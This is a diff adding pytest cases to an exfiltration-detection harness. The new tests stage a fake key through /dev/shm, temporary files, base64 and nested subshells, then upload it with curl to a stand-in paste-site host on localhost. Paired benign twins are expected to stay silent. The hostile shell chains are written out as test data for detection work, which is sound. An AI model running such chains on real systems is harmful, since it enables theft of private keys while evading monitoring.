@@ -4,12 +4,13 @@ what the telemetry says about the object (its real path, inode and bytes) and, w
 spelling alerts, the same alert for this one; and that no token of the fake secret reaches the
 output. Everyday twins stay silent."""
 
+import json
 import os
 import subprocess
 
 import pytest
 
-from harness import Scenario, assert_silent, check_service_saw, execute, get, is_action
+from harness import Scenario, as_list, assert_silent, check_service_saw, execute, get, is_action
 from harness import paths
 from harness.config import HTTPS_PORT
 
@@ -268,3 +269,82 @@ def test_io_uring_open_and_reads(monitor, standin, fake_home, tmp_path, uring_re
         assert get(summaries[-1], "exfilwatch.file.bytes_read") == 4 * size, \
             f"{path.name}: {get(summaries[-1], 'exfilwatch.file.bytes_read')} bytes counted, 4 x {size} read"
     assert_no_secret(monitor, key)
+
+
+# --- Class: taint follows the data through any number of hops (the data-flow model) ----------
+# The key never travels under its own name: it moves through staging files, FIFOs, sockets and
+# shell variables, across sessions and subshells. Each attack alerts with its sub-technique, and
+# no token of the key reaches the output; the everyday twins (no data passed) stay silent.
+
+def own_alerts(monitor, technique="T1567.003"):
+    """This test's alerts: to the stand-in's port under the paste site's name (other monitors'
+    test traffic on the host can alert too, to their own ports)."""
+    found = [r for r in monitor.records()
+             if get(r, "event.action") == "exfiltration-suspected"
+             and get(r, "destination.port") == HTTPS_PORT and get(r, "destination.domain") == PASTE
+             and technique in as_list(get(r, "threat.technique.subtechnique.id", []))]
+    assert found, f"no {technique} alert to {PASTE}:{HTTPS_PORT}"
+    return found
+
+
+def dataflow_attack(monitor, standin, fake_home, tmp_path, name, shell, **extra):
+    attack(monitor, standin, fake_home, tmp_path, name, shell, **extra)
+    return own_alerts(monitor)
+
+
+def silent_run(monitor, standin, fake_home, tmp_path, name, shell, **extra):
+    scenario = Scenario(name, "silent", shell, domain=PASTE, uploads=True, **extra)
+    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
+    check_service_saw(scenario, standin)
+    wait_for_evidence(monitor, scenario, standin)
+    monitor.stop()
+    # Other monitors' test traffic shares the host: this test's alerts are those to this
+    # stand-in's port or naming this test's directory (files, chain).
+    assert_silent([r for r in monitor.records()
+                   if get(r, "destination.port") == HTTPS_PORT or str(tmp_path) in json.dumps(r)])
+
+
+def test_staging_chain_of_four_hops_through_dev_shm_and_tmp(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    shm = f"/dev/shm/ew-{tmp_path.name}"
+    a, b, c, d = f"{shm}-a", tmp_path / "b", f"{shm}-c", tmp_path / "d.txt"
+    shell = (f"cat {key} > {a} && cp {a} {b} && base64 < {b} > {c} && dd if={c} of={d} status=none && "
+             + UPLOAD.format(d))
+    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "staging-chain", shell, leftovers=(a, c))
+    assert any("staged in" in get(r, "event.reason", "") for r in found), [get(r, "event.reason") for r in found]
+    assert_no_secret(monitor, key)
+
+
+def test_command_substitution_at_depth_three(monitor, standin, fake_home, tmp_path):
+    # The key's base64 lives only in a shell variable, two subshells and a substitution deep,
+    # and reaches curl on stdin through a here-string.
+    key = key_of(fake_home)
+    curl = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
+    shell = f'( ( x=$( ( cat {key} | base64 -w0 ) ); {curl} <<< "$x" ) )'
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "substitution-depth-3", shell)
+    assert_no_secret(monitor, key)
+
+
+def test_background_job_that_passed_no_data_is_silent(monitor, standin, fake_home, tmp_path):
+    # The everyday twin of the pipeline: a job of the same script read the key for itself
+    # (its output went nowhere); the upload of an unrelated report stays silent.
+    key = key_of(fake_home)
+    report = tmp_path / "report.txt"
+    report.write_text("build 1234 passed\n" * 200)
+    shell = (f"( cat {key} > /dev/null; sha256sum {key} > /dev/null; sleep 2 ) & "
+             + UPLOAD.format(report) + "; wait")
+    silent_run(monitor, standin, fake_home, tmp_path, "background-job", shell)
+
+
+def test_provisioner_rewriting_hosts_links_nothing(monitor, standin, fake_home, tmp_path):
+    # A provisioner (its own session) rewrites /etc/hosts; a later upload that resolves names
+    # through it, in a shell that also read the key for itself, stays silent.
+    key = key_of(fake_home)
+    report = tmp_path / "report.txt"
+    report.write_text("deploy finished\n" * 200)
+    shell = (f"setsid sh -c 'cp /etc/hosts {tmp_path}/hosts.new && "
+             f"echo 127.0.0.1 build-cache.internal >> {tmp_path}/hosts.new && "
+             f"cat {tmp_path}/hosts.new > /etc/hosts' && "
+             f"ssh-keygen -y -f {key} > /dev/null && "
+             f"getent hosts build-cache.internal > /dev/null && " + UPLOAD.format(report))
+    silent_run(monitor, standin, fake_home, tmp_path, "provisioner-hosts", shell, hosts=(PASTE,))
